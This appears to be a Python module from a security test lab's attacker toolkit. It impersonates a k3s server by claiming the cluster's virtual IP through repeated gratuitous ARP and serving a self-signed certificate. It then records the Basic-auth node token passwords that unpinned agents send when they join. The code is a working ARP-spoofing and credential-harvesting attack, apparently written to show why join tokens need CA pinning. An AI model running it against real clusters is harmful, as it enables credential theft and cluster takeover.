"""``tls-server``: the attacker answers at the registration address with a k3s look-alike.

It adds the VIP to its own eth0, claims it with gratuitous ARP twice a second (no VRRP needed),
and serves HTTPS on VIP:6443 with a self-signed certificate: ``/cacerts`` returns that
certificate, as a real server returns its CA, and every other request is answered ``{}`` after
its ``Authorization`` header is recorded. An agent that joins without pinning the cluster CA
(a token without ``K10<ca-hash>``) trusts whatever ``/cacerts`` says and then sends
``node:<token password>`` in Basic auth: each such header is printed as a ``credentials``
event. The address is removed again at the end.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import socket
import ssl
import struct
import subprocess
import tempfile
import time
from collections.abc import Callable
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any

from tests.lab.attacker import IFACE, MAX_DURATION, emit, own_mac


def _certificate(directory: Path, vip: str) -> tuple[Path, Path]:
    cert, key = directory / "cert.pem", directory / "key.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
         "-nodes", "-keyout", str(key), "-out", str(cert), "-days", "1", "-subj", "/CN=k3s",
         "-addext", f"subjectAltName=IP:{vip},IP:127.0.0.1,DNS:localhost"],
        check=True, capture_output=True, timeout=30,
    )  # fmt: skip
    return cert, key


def _garp(vip: IPv4Address) -> bytes:
    mac = own_mac()
    ether = b"\xff" * 6 + mac + struct.pack("!H", 0x0806)
    return (
        ether
        + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)
        + mac
        + vip.packed
        + b"\0" * 6
        + vip.packed
    )


async def _handle(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, cert_pem: bytes, seen: list[str]
) -> None:
    with contextlib.suppress(Exception):
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        lines = head.decode(errors="replace").split("\r\n")
        path = lines[0].split(" ")[1] if " " in lines[0] else "?"
        for line in lines[1:]:
            name, _, value = line.partition(":")
            if name.strip().lower() == "authorization" and value.strip().startswith("Basic "):
                user, _, secret = base64.b64decode(value.strip()[6:]).decode().partition(":")
                seen.append(secret)
                emit("credentials", path=path, user=user, secret=secret)
        body = cert_pem if path == "/cacerts" else b"{}"
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
            + f"Content-Length: {len(body)}\r\n\r\n".encode()
            + body
        )
        await writer.drain()
        emit("request", path=path)
    writer.close()


async def _serve(args: argparse.Namespace) -> dict[str, int]:
    vip = IPv4Address(args.vip)
    seen: list[str] = []
    with tempfile.TemporaryDirectory() as tmp:
        cert, key = _certificate(Path(tmp), str(vip))
        ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        ctx.load_cert_chain(cert, key)
        cert_pem = cert.read_bytes()
        subprocess.run(["ip", "addr", "replace", f"{vip}/24", "dev", IFACE], check=True, timeout=10)
        try:
            server = await asyncio.start_server(
                lambda r, w: _handle(r, w, cert_pem, seen), str(vip), args.port, ssl=ctx
            )
            emit("serving", vip=str(vip), port=args.port)
            frame = _garp(vip)
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as s:
                s.bind((IFACE, 0x0806))
                end = time.monotonic() + min(args.duration, MAX_DURATION)
                while time.monotonic() < end:
                    s.send(frame)
                    await asyncio.sleep(0.5)
            server.close()
            await server.wait_closed()
        finally:
            subprocess.run(
                ["ip", "addr", "del", f"{vip}/24", "dev", IFACE], check=False, timeout=10
            )
    return {"credentials": len(seen)}


def tls_server(args: argparse.Namespace) -> dict[str, int]:
    return asyncio.run(_serve(args))


def add_commands(
    sub: Any, commands: dict[str, Callable[[argparse.Namespace], dict[str, int]]]
) -> None:
    t = sub.add_parser("tls-server")
    t.add_argument("--vip", required=True)
    t.add_argument("--port", type=int, default=6443)
    t.add_argument("--duration", type=float, default=30.0)
    commands["tls-server"] = tls_server
